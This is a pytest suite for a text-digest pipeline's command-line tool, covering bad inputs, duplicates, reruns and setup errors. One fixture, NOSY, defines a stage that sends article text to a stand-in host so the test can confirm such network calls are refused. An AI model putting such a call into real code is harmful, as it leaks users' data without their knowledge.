"""`pipeline run` as users run it: files in, digests out, whatever is wrong with the files."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from click.testing import CliRunner

from pipeline.cli import main
from pipeline.paths import EMBEDDED_MODEL

STAGES = "stages: [clean, detect, dedupe, summarize, render]\n"
ARTICLE = (
    "The river town\n"
    "The river rose by two metres on Monday. The town had been warned on Friday.\n"
    "Nobody was hurt, the mayor said, and the bridge is open again. Repairs cost 3 million.\n"
)


def invoke(root, *arguments):
    """Run the command line on a project folder."""
    return CliRunner().invoke(main, [*arguments, "--config", str(root / "pipeline.yaml")])


def digests(root):
    """Give every output file but the report, which has times in it."""
    files = (root / "output").iterdir()
    return {p.name: p.read_text("utf-8") for p in files if p.name != "report.json"}


def load(root, name):
    """Load a JSON output."""
    return json.loads((root / "output" / name).read_text("utf-8"))


def test_a_digest_an_evidence_an_index_and_a_report(project):
    """One article gives its digest and evidence, an index that links it, and a report."""
    root = project({"pipeline.yaml": STAGES, "seeds/river.txt": ARTICLE})
    result = invoke(root, "run")
    assert result.exit_code == 0, result.output
    assert set(digests(root)) == {"river.md", "river.json", "index.md"}
    assert "# The river town" in digests(root)["river.md"]
    assert "(river.md)" in digests(root)["index.md"]
    assert load(root, "report.json")["counts"]["articles"] == {"ok": 1}


def test_evidence_points_back_into_the_input(project):
    """Segments, removed passages and repairs reproduce the input at their offsets."""
    text = "Menu\r\n" + ARTICLE.replace("two metres", "two\u00a0me\u00adtres") + ARTICLE
    root = project({"pipeline.yaml": STAGES, "seeds/river.txt": text})
    assert invoke(root, "run").exit_code == 0
    evidence = load(root, "river.json")
    assert evidence["schema"] == 2
    assert evidence["repairs"]
    assert evidence["removed"]
    for removed in evidence["removed"]:
        assert text[removed["start"] : removed["end"]] == removed["text"]
    for repair in evidence["repairs"]:
        assert text[repair["start"] : repair["end"]] == repair["before"]
    for segment in evidence["segments"]:
        stood = text[segment["start"] : segment["end"]]
        assert stood.replace("\u00a0", " ").replace("\u00ad", "") == segment["source"]


BAD = {
    "empty.txt": b"",
    "binary.txt": bytes(range(256)) * 40,
    "wrong-encoding.txt": b"\xff\xfe\x00",
    "no-letters.txt": b"1 2 3 4 5\n---\n2024\n",
    "one-character.txt": b"a" * 1_000_000,
    "one-line.txt": b"The cat sat on the mat and looked at the dog. " * 20_000,
    "mixed.txt": (
        "The minister spoke in the capital on Monday about the new budget for schools.\n"
        "Министр выступил в столице в понедельник и рассказал о новом бюджете для школ.\n"
    ).encode(),
}


def test_bad_input_costs_no_good_input(project):
    """Every kind of bad file is a row that says what is wrong; the good article is written."""
    root = project(
        {
            "pipeline.yaml": STAGES,
            "seeds/river.txt": ARTICLE,
            **{f"seeds/{n}": b for n, b in BAD.items()},
        }
    )
    (root / "seeds" / "loop.txt").symlink_to(root / "seeds" / "loop.txt")
    result = invoke(root, "run")
    assert result.exit_code == 1, result.output
    rows = {r["source"]: r for r in load(root, "report.json")["articles"]}
    assert set(rows) == {*BAD, "river.txt", "loop.txt"}
    assert rows["river.txt"]["status"] == "ok"
    failed = {s for s, r in rows.items() if r["status"] == "failed"}
    assert failed == {"empty.txt", "binary.txt", "wrong-encoding.txt", "loop.txt"}
    assert all(rows[s]["error"] for s in failed)
    assert rows["no-letters.txt"]["status"] == "unsupported"
    assert rows["no-letters.txt"]["notes"]
    for row in rows.values():
        assert f"{row['output']}.md" in digests(root)
        assert load(root, f"{row['output']}.json")["status"] == row["status"]


def test_stems_that_clash_are_both_written(project):
    """Two inputs of one stem give two digests; one called index does not hide the index."""
    root = project(
        {
            "pipeline.yaml": STAGES,
            "seeds/a.txt": ARTICLE,
            "seeds/a.md": "# Another story\n\nThe harvest was late in the north this year.\n",
            "seeds/index.txt": "A third story\nThe train to the coast runs twice a day now.\n",
        }
    )
    assert invoke(root, "run").exit_code == 0
    pages = {n for n in digests(root) if n.endswith(".md")}
    assert pages == {"a.txt.md", "a.md.md", "index.txt.md", "index.md"}
    assert "# Digests" in digests(root)["index.md"]


def test_near_duplicates_point_to_the_kept_copy(project):
    """A copy gets a page that points to the kept article, which names the copy."""
    copy = ARTICLE.replace("Nobody", "No one")
    root = project({"pipeline.yaml": STAGES, "seeds/a.txt": ARTICLE * 1, "seeds/b.txt": copy})
    assert invoke(root, "run").exit_code == 0
    kept, other = sorted(("a", "b"), key=lambda n: load(root, f"{n}.json")["status"] != "ok")
    assert load(root, f"{other}.json")["duplicate_of"] == f"{kept}.txt"
    assert f"({other}.md)" in digests(root)[f"{kept}.md"]
    assert f"({kept}.md)" in digests(root)[f"{other}.md"]


def test_same_input_same_bytes(project, tmp_path):
    """Two runs from scratch write the same bytes, and no path of the machine is in them."""
    root = project({"pipeline.yaml": STAGES, "seeds/river.txt": ARTICLE})
    invoke(root, "run")
    first = digests(root)
    invoke(root, "run", "--force")
    assert digests(root) == first
    assert not any(str(tmp_path) in text for text in first.values())


def test_an_unchanged_run_does_nothing(project):
    """A second run with nothing changed leaves the files alone."""
    root = project({"pipeline.yaml": STAGES, "seeds/river.txt": ARTICLE})
    invoke(root, "run")
    before = (root / "output" / "report.json").stat().st_mtime_ns
    result = invoke(root, "run")
    assert "Nothing has changed" in result.output
    assert (root / "output" / "report.json").stat().st_mtime_ns == before


def damage_output(root):
    """Edit a digest."""
    (root / "output" / "river.md").write_text("edited")


def delete_output(root):
    """Delete evidence."""
    (root / "output" / "river.json").unlink()


def change_input(root):
    """Edit the article."""
    (root / "seeds" / "river.txt").write_text(ARTICLE + "One more sentence came in later today.\n")


def add_input(root):
    """Add an article."""
    (root / "seeds" / "more.txt").write_text("A headline\nThis is another story altogether.\n")


def change_option(root):
    """Change an option."""
    (root / "pipeline.yaml").write_text(STAGES.replace("summarize", "{summarize: {sentences: 2}}"))


def change_template(root):
    """Bring an own template."""
    (root / "own.j2").write_text("{{ page.title }}\n")
    (root / "pipeline.yaml").write_text(STAGES.replace("render", "{render: {template: own.j2}}"))


CHANGES = [damage_output, delete_output, change_input, add_input, change_option, change_template]


@pytest.mark.parametrize("change", CHANGES, ids=lambda f: f.__name__)
def test_whatever_changes_is_done_again(project, change):
    """A changed input, option, template or output makes the next run write again."""
    root = project({"pipeline.yaml": STAGES, "seeds/river.txt": ARTICLE})
    invoke(root, "run")
    change(root)
    result = invoke(root, "run")
    assert "Nothing has changed" not in result.output
    assert (root / "output" / "river.json").exists()
    assert digests(root)["river.md"] != "edited"
    assert "Nothing has changed" in invoke(root, "run").output


def test_only_writes_just_those(project):
    """With --only the other digests, the index and the report stay as they are."""
    root = project(
        {"pipeline.yaml": STAGES, "seeds/a.txt": ARTICLE, "seeds/b.txt": "Title\nText.\n"}
    )
    assert invoke(root, "run", "--only", "a.*").exit_code == 0
    assert set(digests(root)) == {"a.md", "a.json"}
    assert not (root / "output" / "report.json").exists()


PROBLEMS = {
    "bad configuration": ("stages: [detcet]\n", [], "did you mean 'detect'?"),
    "missing template": (
        "stages: [{render: {template: no.j2}}]\n",
        [],
        "'no.j2' is unreadable",
    ),
    "missing model": (
        "stages: [detect, {translate: {engines: [{engine: lm, folder: nowhere}]}}]\n",
        [],
        "nowhere",
    ),
    "missing input": (STAGES, ["--input", "nowhere"], "no input folder 'nowhere'"),
}


@pytest.mark.parametrize(("text", "arguments", "message"), PROBLEMS.values(), ids=PROBLEMS)
def test_what_is_wrong_with_the_set_up_stops_before_the_first_article(
    project, text, arguments, message
):
    """Bad configuration and missing models exit with 2, say so, and write nothing."""
    root = project({"pipeline.yaml": text, "seeds/a.txt": ARTICLE})
    result = invoke(root, "run", *arguments)
    assert result.exit_code == 2
    assert message in result.output
    assert not (root / "output").exists()


def test_output_inside_the_input_is_refused(project):
    """An output folder inside the input would be read as articles; it is refused."""
    root = project({"pipeline.yaml": STAGES, "seeds/a.txt": ARTICLE})
    result = invoke(root, "run", "--output", str(root / "seeds" / "out"))
    assert result.exit_code == 2
    assert "lies inside the input" in result.output


NOSY = """
import urllib.request
from pipeline.article import Article

def nosy(article: Article) -> Article:
    urllib.request.urlopen("http://192.0.2.1/collect", data=article.text.encode(), timeout=1)
    return article
"""


def test_a_stage_that_phones_home_is_refused_and_named(project):
    """A stage that opens a connection fails its article with an error that names the caller."""
    root = project(
        {
            "pipeline.yaml": "stages: [nosy_stage.nosy]\n",
            "nosy_stage.py": NOSY,
            "seeds/a.txt": "Hi\n",
        }
    )
    result = invoke(root, "run")
    assert result.exit_code == 1
    (row,) = load(root, "report.json")["articles"]
    assert "a run is offline" in row["error"]
    assert "nosy_stage.py" in row["error"]


SLOW = """
import time
from pipeline.article import Article

def slow(article: Article) -> Article:
    print("working", flush=True)
    time.sleep({seconds})
    return article
"""


def test_a_killed_run_is_completed_by_the_next(project):
    """After kill -9 in mid-run there is no half-written file, and the next run completes."""
    root = project({"pipeline.yaml": "stages: [slow_stage.slow, detect, summarize, render]\n"})
    project({f"seeds/{n}.txt": ARTICLE + f"Number {n} of many.\n" for n in range(5)})
    project({"slow_stage.py": SLOW.format(seconds=60)})
    command = [sys.executable, "-m", "pipeline", "run", "--config", str(root / "pipeline.yaml")]
    with subprocess.Popen(command, stdout=subprocess.PIPE) as process:
        assert process.stdout.readline()
        process.kill()
    assert not (root / "output").exists() or not list((root / "output").glob("*.md"))
    project({"slow_stage.py": SLOW.format(seconds=0)})
    subprocess.run(command, check=True, stdout=subprocess.DEVNULL)
    assert len(list((root / "output").glob("*.md"))) == 6


def test_init_check_stages_and_schema(tmp_path):
    """`init` writes a project that `check` understands; `stages` and `schema` list it all."""
    runner = CliRunner()
    assert runner.invoke(main, ["init", str(tmp_path / "new")]).exit_code == 0
    assert (tmp_path / "new" / "articles").is_dir()
    assert runner.invoke(main, ["init", str(tmp_path / "new")]).exit_code == 2
    config = str(tmp_path / "new" / "pipeline.yaml")
    checked = runner.invoke(main, ["check", "--config", config])
    assert checked.exit_code == 2  # no model in a new folder
    assert EMBEDDED_MODEL in checked.output
    listed = runner.invoke(main, ["stages", "--config", config])
    assert "min_confidence" in listed.output
    assert json.loads(runner.invoke(main, ["schema"]).output)["properties"]


@pytest.mark.parametrize(
    "command",
    [
        *([], ["run"], ["plan"], ["init"], ["check"], ["stages"], ["schema"], ["models"]),
        *(["cache"], ["cache", "stats"], ["cache", "prune"]),
    ],
)
def test_every_command_helps(command):
    """Every command has a help text with an example."""
    result = CliRunner().invoke(main, [*command, "--help"])
    assert result.exit_code == 0
    assert "Example" in result.output or "Start with" in result.output
